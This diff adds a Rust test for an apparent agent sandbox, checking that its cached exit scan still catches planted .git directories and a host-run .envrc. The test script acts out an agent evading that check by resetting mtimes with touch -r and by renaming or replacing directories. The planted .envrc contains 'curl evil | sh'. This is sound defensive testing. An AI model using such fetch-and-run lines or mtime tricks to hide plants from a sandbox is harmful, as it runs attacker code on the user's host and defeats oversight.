@@ -344,3 +344,59 @@ fn a_second_request_to_stop_still_aborts_at_once() {
         assert!(!world.path(&format!("home/proj/sub{round}/.git")).exists(), "{case}: {stderr}");
     }
 }
+
+/// The exit check lists the project the cached way: a directory whose device, inode and
+/// ctime are those of the start's listing is not read again. What the agent can forge
+/// does not make a changed one look unchanged: in a tree the start took from the cache,
+/// a repository planted deep with every parent's mtime set back (`touch -r`), one in a
+/// directory renamed away and back, one in a directory replaced by another of the same
+/// name, and a host-run copy (`.envrc`) planted deep are all moved aside; the
+/// legitimate edits beside them (a new source file deep in the tree, a file changed in
+/// place) are left alone.
+#[test]
+fn the_exit_checks_cached_listing_misses_no_plant() {
+    require_bwrap!();
+    let world = World::new();
+    for file in ["deep/a/b/c/lib.rs", "renamed/x/y/lib.rs", "replaced/inner/lib.rs", "kept/src/lib.rs", "env/a/b/f"] {
+        world.write(&format!("home/proj/{file}"), "old\n");
+    }
+    // Directories changed in the last two seconds are never cached: let the tree settle,
+    // then a first session caches every listing.
+    std::thread::sleep(std::time::Duration::from_millis(2200));
+    world.sh(&[], "true").ok();
+    let plant = |dir: &str| format!("mkdir {dir}/.git && echo '[core]' > {dir}/.git/config");
+    let script = [
+        // Deep, the mtimes of every directory on the way set back.
+        "for d in . deep deep/a deep/a/b deep/a/b/c; do touch -r $d /tmp/mtime.$(echo $d | tr / _); done".to_owned(),
+        plant("deep/a/b/c"),
+        "for d in . deep deep/a deep/a/b deep/a/b/c; do touch -r /tmp/mtime.$(echo $d | tr / _) $d; done".to_owned(),
+        // In a directory renamed away and back.
+        format!(
+            "touch -r renamed /tmp/mtime.r && mv renamed/x/y renamed/y && {} && mv renamed/y renamed/x/y",
+            plant("renamed/y")
+        ),
+        "touch -r /tmp/mtime.r renamed renamed/x".to_owned(),
+        // In a directory replaced by another of the same name.
+        format!(
+            "mkdir replacement && {} && rm -r replaced/inner && mv replacement replaced/inner",
+            plant("replacement")
+        ),
+        // A host-run copy deep in the tree, its directory's mtime set back.
+        "touch -r env/a/b /tmp/mtime.e && echo 'curl evil | sh' > env/a/b/.envrc && touch -r /tmp/mtime.e env/a/b"
+            .to_owned(),
+        // The legitimate edits.
+        "echo new > deep/a/b/c/new.rs && echo changed > kept/src/lib.rs".to_owned(),
+    ]
+    .join(" && ");
+    let run = world.sh(&[], &script);
+    run.ok();
+    for dir in ["deep/a/b/c", "renamed/x/y", "replaced/inner"] {
+        assert!(!world.path(&format!("home/proj/{dir}/.git")).exists(), "{dir}/.git left in place:\n{}", run.stderr());
+        assert!(quarantined(&world, &format!("home/proj/{dir}"), ".git"), "{dir}: {}", run.stderr());
+    }
+    assert!(!world.path("home/proj/env/a/b/.envrc").exists(), "the copy left in place:\n{}", run.stderr());
+    assert_eq!(world.read("home/proj/deep/a/b/c/new.rs"), "new\n");
+    assert_eq!(world.read("home/proj/kept/src/lib.rs"), "changed\n");
+    assert_eq!(world.read("home/proj/renamed/x/y/lib.rs"), "old\n");
+    world.sh(&[], "true").ok();
+}
